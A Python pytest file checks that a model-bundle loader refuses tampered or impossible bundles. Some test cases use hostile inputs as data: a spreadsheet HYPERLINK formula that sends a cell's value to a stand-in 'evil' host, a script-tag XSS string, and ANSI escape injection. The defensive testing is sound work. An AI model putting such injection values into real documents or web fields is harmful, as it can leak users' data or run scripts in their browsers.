"""Bundles whose checksums fit but whose content is impossible are refused in one sentence."""

import hashlib
import importlib.util
import io
import json
import os
from dataclasses import replace

import numpy as np
import pytest
from TACEResponseLib.models import load_bundle, save_bundle
from TACEResponseLib.models.bundle_io import ARRAYS_FILE, CARD_FILE, MODEL_FILE, _canonical, _own_sha256
from TACEResponseLib.models.knn_score import KnnScore
from TACEResponseLib.models.lasso_score import LassoScore
from TACEResponseLib.models.shipped_models import SHIPPED_SHA256, is_shipped, shipped_text
from TACEResponseLib.models.svm_score import SvmScore


@pytest.fixture
def saved(merged_bundle, tmp_path):
    save_bundle(merged_bundle, tmp_path / "test-cd")
    return tmp_path / "test-cd"


def _score(type_name, members, features, random):
    """A score of each type whose numbers are random but whose parts fit together."""
    columns = np.tile(np.arange(4), (members, 1))
    small = {"columns": columns, "mean": np.zeros((members, 4)), "scale": np.ones((members, 4))}
    if type_name == "knn":
        rows = random.normal(size=(members, 9, 4))
        return KnnScore(
            **small, rows=rows, outcome=(rows[..., 0] > 0).astype(float), neighbours=np.array(4),
            total_features=np.array(features),
        )  # fmt: skip
    if type_name == "svm":
        return SvmScore(
            **small, support_vectors=random.normal(size=(members, 7, 4)), gamma=np.array(0.2),
            dual_coefficients=random.normal(size=(members, 7)), intercepts=np.zeros(members),
            total_features=np.array(features),
        )  # fmt: skip
    shape = (members, features)
    return LassoScore(
        np.zeros(shape), np.ones(shape), random.normal(size=shape), np.zeros(members), np.full(members, 0.1)
    )


def _rewritten(folder, change_fields=None, change_arrays=None, card=None):
    """Change a saved bundle and make its checksums fit again."""
    fields = json.loads((folder / MODEL_FILE).read_text(encoding="utf-8"))
    if change_arrays is not None:
        with np.load(folder / ARRAYS_FILE) as stored:
            arrays = {name: stored[name].copy() for name in stored}
        change_arrays(arrays)
        packed = io.BytesIO()
        np.savez(packed, **arrays)
        (folder / ARRAYS_FILE).write_bytes(packed.getvalue())
    if card is not None:
        (folder / CARD_FILE).write_bytes(card)
    for name, file in (("arrays_sha256", ARRAYS_FILE), ("card_sha256", CARD_FILE)):
        fields[name] = hashlib.sha256((folder / file).read_bytes()).hexdigest()
    if change_fields is not None:
        change_fields(fields)
    fields["sha256"] = _own_sha256(fields)
    (folder / MODEL_FILE).write_text(_canonical(fields), encoding="utf-8")


def _refused(folder, words):
    with pytest.raises(ValueError, match=rf"^The model test-cd .*(?:{words}).*\.$") as caught:
        load_bundle(folder)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize("type_name", ["knn", "svm", "lasso"])
def test_bundles_of_every_score_pass(merged_bundle, tmp_path, type_name):
    random = np.random.default_rng(1)
    features, refits = len(merged_bundle.feature_names), len(merged_bundle.predictor.refit_intercepts)
    bundle = replace(
        merged_bundle,
        scores={"dnn": _score(type_name, 1, features, random)},
        refit_scores={"dnn": _score(type_name, refits, features, random)},
    )
    assert type(save_bundle(bundle, tmp_path / "other").scores["dnn"]) is type(bundle.scores["dnn"])


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda fields: fields.pop("score_types"), "score_types is missing"),
        (lambda fields: fields.pop("required_facts"), "required_facts is missing"),
        (lambda fields: fields.update(settings=-1), "settings is not what it should be"),
        (lambda fields: fields.update(unknown_facts="garbage"), "unknown_facts is not what it should be"),
        (lambda fields: fields.update(name='=HYPERLINK("http://evil/"&A2)'), "name is not what it should be"),
        (lambda fields: fields.update(name="<script>alert(1)</script>"), "name is not what it should be"),
        (lambda fields: fields.update(threshold_rule="<b>x</b>"), "threshold_rule is not what it should be"),
        (lambda fields: fields.update(outcome="a\x1b[2Jb"), "outcome is not what it should be"),
        (lambda fields: fields.update(threshold=1.5), "threshold is not what it should be"),
        (lambda fields: fields.update(threshold=True), "threshold is not what it should be"),
        (lambda fields: fields.update(prevalence=0), "prevalence is not what it should be"),
        (lambda fields: fields.update(cohort_responders=100), "cohort_responders is not below cohort_size"),
        (lambda fields: fields.update(cohort_size=10), "training_scores hold more patients|cohort_responders"),
        (lambda fields: fields.update(position_score="knn"), "position_score names no score"),
        (lambda fields: fields.update(kind="clinical"), "kind is 'clinical'"),
        (lambda fields: fields.update(required_facts=[]), "kind is 'merged'"),
        (lambda fields: fields.update(extra=1), "unknown field 'extra'"),
        (lambda fields: fields.update(demonstration="no"), "demonstration is not what it should be"),
        (lambda fields: fields["predictor"].update(intercept=1e308), "predictor is not what it should be"),
        (lambda fields: fields["predictor"].update(terms=["dnn", "dnn"]), "predictor is not what it should be"),
        (lambda fields: fields["predictor"].update(means=[0.5]), "numbers of predictor are not as many"),
        (lambda fields: fields.update(feature_names=fields["feature_names"][1:]), "has the shape"),
        (lambda fields: fields.update(score_types=[]), "score_types is not what it should be"),
    ],
)
def test_fields(saved, change, words):
    _rewritten(saved, change)
    _refused(saved, words)


def _set(name, value):
    def change(arrays):
        arrays[name][...] = value

    return change


def _replaced(name, make):
    def change(arrays):
        arrays[name] = make(arrays[name])

    return change


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_set("predictor/refit_intercepts", np.inf), "predictor/refit_intercepts holds numbers that are not finite"),
        (_set("predictor/refit_coefficients", np.nan), "refit_coefficients holds numbers that are not finite"),
        (
            _set("predictor/refit_coefficients", 1e308),
            "refit_coefficients holds numbers that are not .* a possible size",
        ),
        (_set("predictor/refit_coefficients", 1e9), "the refits of predictor are out of all bounds"),
        (_set("scores/dnn/scale", -2.0), "scores/dnn/scale holds numbers that are not above zero"),
        (_set("refits/dnn/scale", np.nan), "refits/dnn/scale holds numbers that are not above zero"),
        (_set("feature_minimum", np.nan), "feature_minimum holds numbers that are not finite"),
        (_set("feature_minimum", 9.0), "feature_minimum is above feature_maximum"),
        (_set("training_scores/OR", np.nan), "training_scores/OR holds numbers that are not finite"),
        (lambda arrays: arrays.pop("scores/dnn/weight_2"), "scores/dnn: a layer is missing"),
        (lambda arrays: arrays.pop("scores/dnn/weight_1"), "scores/dnn/weight_1 is missing|has the shape"),
        (lambda arrays: arrays.pop("refits/dnn/bias_0"), "refits/dnn/bias_0 is missing"),
        (lambda arrays: arrays.pop("feature_maximum"), "feature_maximum is missing"),
        (lambda arrays: arrays.update(extra=np.zeros(3)), "unknown array 'extra'"),
        (_replaced("refits/dnn/mean", lambda array: array[:-1]), "refits/dnn/mean has the shape"),
        (_replaced("scores/dnn/mean", lambda array: array.astype(complex)), "are not finite"),
        (_replaced("scores/dnn/mean", lambda array: array.astype("U8")), "are not finite"),
        (_replaced("scores/dnn/weight_0", lambda array: array[..., :-1]), "scores/dnn/weight_0 has the shape"),
        (_replaced("predictor/refit_intercepts", lambda array: array[:0]), "has the shape|no refits"),
    ],
)
def test_arrays(saved, change, words):
    _rewritten(saved, change_arrays=change)
    _refused(saved, words)


@pytest.mark.parametrize(
    ("type_name", "part", "value", "words"),
    [
        ("knn", "columns", 10_000, "columns name features that are not there"),
        ("knn", "columns", -1, "are not columns"),
        ("knn", "neighbours", 10, "neighbours is not among 1 to 9"),
        ("knn", "outcome", 0.5, "are not 0 or 1"),
        ("knn", "total_features", 3, "it was fitted to another number of features"),
        ("svm", "gamma", -1, "are not above zero"),
        ("svm", "dual_coefficients", np.inf, "are not finite"),
        ("lasso", "scale", 0, "are not above zero"),
    ],
)
def test_arrays_of_other_scores(merged_bundle, tmp_path, type_name, part, value, words):
    random = np.random.default_rng(1)
    features, refits = len(merged_bundle.feature_names), len(merged_bundle.predictor.refit_intercepts)
    scores = {"dnn": _score(type_name, 1, features, random)}
    bundle = replace(merged_bundle, scores=scores, refit_scores={"dnn": _score(type_name, refits, features, random)})
    save_bundle(bundle, tmp_path / "test-cd")
    _rewritten(tmp_path / "test-cd", change_arrays=_set(f"scores/dnn/{part}", value))
    _refused(tmp_path / "test-cd", words)


class TestFiles:
    """Files that are none, or never end."""

    def test_deep_json(self, saved):
        (saved / MODEL_FILE).write_text('{"a":' * 100_000 + "0" + "}" * 100_000)
        _refused(saved, "is not a model file")

    @pytest.mark.parametrize("text", ["", "null", "[]", "NaN", '{"schema_version": NaN}', "9" * 10_000, '"\\ud800"'])
    def test_other_json(self, saved, text):
        (saved / MODEL_FILE).write_text(text)
        _refused(saved, "is not a model file|was changed after it was written")

    def test_a_card_that_is_not_utf_8(self, saved):
        _rewritten(saved, card=b"\xff\xfe")
        _refused(saved, "do not fit together")

    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no FIFO")
    @pytest.mark.parametrize("file", [MODEL_FILE, ARRAYS_FILE, CARD_FILE])
    def test_a_pipe(self, saved, file):
        (saved / file).unlink()
        os.mkfifo(saved / file)
        _refused(saved, f"{file} is not a regular file of at most")

    @pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="this system has no /dev/zero")
    @pytest.mark.parametrize("file", [MODEL_FILE, ARRAYS_FILE, CARD_FILE])
    def test_an_endless_file(self, saved, file):
        (saved / file).unlink()
        (saved / file).symlink_to("/dev/zero")
        _refused(saved, f"{file} is not a regular file of at most")

    def test_a_huge_file_is_not_read(self, saved):
        with (saved / ARRAYS_FILE).open("r+b") as file:
            file.truncate(10 << 30)
        _refused(saved, "is not a regular file of at most 512 MB")

    @pytest.mark.parametrize("shape", ["(99999999999,)", "(-1,)", "(4294967296, 4294967296)", "('a',)"])
    def test_arrays_that_promise_more_than_the_file_holds(self, saved, shape):
        content = (saved / ARRAYS_FILE).read_bytes()
        start = content.index(b"'shape': (") + len(b"'shape': ")
        end = content.index(b"}", start)
        content = content[:start] + f"{shape}, ".encode().ljust(end - start)[: end - start] + content[end:]
        (saved / ARRAYS_FILE).write_bytes(content)
        _rewritten(saved)
        _refused(saved, "do not fit together")


def test_the_table_of_shipped_models_is_up_to_date(repository):
    tool = repository / "Testing" / "tools" / "update_shipped_models.py"
    spec = importlib.util.spec_from_file_location("update_shipped_models", tool)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.shipped_now() == SHIPPED_SHA256, f"run {tool.relative_to(repository)}"
    for name in SHIPPED_SHA256:
        bundle = load_bundle(repository / "trained_models" / name)
        assert is_shipped(bundle.name, bundle.sha256)
        assert shipped_text(name, bundle.sha256) == "shipped with this version"
        assert shipped_text(name, "0" * 64) == "not shipped with this version"
